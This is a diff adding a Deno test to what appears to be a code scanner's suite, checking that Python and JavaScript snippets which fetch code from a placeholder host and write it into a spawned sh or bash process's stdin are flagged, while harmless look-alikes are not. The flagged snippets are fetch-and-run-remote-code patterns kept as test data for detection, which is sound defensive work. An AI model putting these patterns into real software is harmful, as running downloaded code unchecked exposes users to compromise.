@@ -1505,6 +1505,33 @@ Deno.test("shell: a download reaches a shell through a subshell, a group or an i
   );
 });
 
+Deno.test("a download written to the stdin of a shell a script started is run", () => {
+  const py = "import subprocess, sys, urllib.request\n" +
+    'src = urllib.request.urlopen("https://get.example.net/x").read()\n';
+  assertRunsOnlyIn(py, "py", [
+    'p = subprocess.Popen(["sh"], stdin=subprocess.PIPE)\np.communicate(src)\n',
+    'p = subprocess.Popen(["bash", "-s"], stdin=subprocess.PIPE)\np.stdin.write(src)\n',
+    'with subprocess.Popen(["timeout", "9", "bash"], stdin=subprocess.PIPE) as p:\n    p.communicate(input=src)\n',
+    'subprocess.Popen(["sh"], stdin=subprocess.PIPE).communicate(src)\n',
+  ], [
+    'p = subprocess.Popen(["grep", "x"], stdin=subprocess.PIPE)\np.communicate(src)\n',
+    'p = subprocess.Popen(["bash", "build.sh"], stdin=subprocess.PIPE)\np.communicate(b"y\\n")\n',
+    'p = subprocess.Popen(["sh"], stdin=subprocess.PIPE)\np.communicate(b"echo hi")\n',
+    "sys.stdout.write(src)\n",
+  ]);
+  const js = 'import { spawn } from "node:child_process";\nimport fs from "node:fs";\n' +
+    'const code = await (await fetch("https://get.example.net/x")).text();\n';
+  assertRunsOnlyIn(js, "mjs", [
+    'const p = spawn("sh");\np.stdin.write(code);\n',
+    'const p = spawn("bash", [], { stdio: ["pipe", "inherit", "inherit"] });\np.stdin.end(code);\n',
+    'spawn("bash").stdin.end(code);\n',
+  ], [
+    'const p = spawn("grep", ["x"]);\np.stdin.end(code);\n',
+    'const p = spawn("sh");\np.stdin.end("echo hi");\n',
+    'fs.createWriteStream("out.txt").end(code);\n',
+  ]);
+});
+
 Deno.test("shell: what printenv NAME and declare -p print is the variables they name or all of them", () => {
   const critical = (text: string) => secretSeverities("scripts/s.sh", `#!/bin/bash\n${text}`);
   assert.deepEqual(
